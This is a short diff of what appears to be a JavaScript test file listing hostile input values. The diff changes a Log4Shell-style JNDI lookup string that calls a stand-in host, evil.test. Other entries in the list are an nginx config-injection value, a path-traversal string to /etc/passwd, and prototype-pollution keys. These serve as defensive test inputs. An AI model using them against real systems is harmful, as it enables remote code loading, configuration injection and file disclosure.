@@ -26,7 +26,7 @@ const VALUES = [
   'a\nb',
   "shop.test;} location / { return 200 'x'; }",
   '$host',
-  '${jndi:ldap://evil.test}',
+  '%{jndi:ldap://evil.test}',
   '../../etc/passwd',
   '__proto__',
   'constructor',
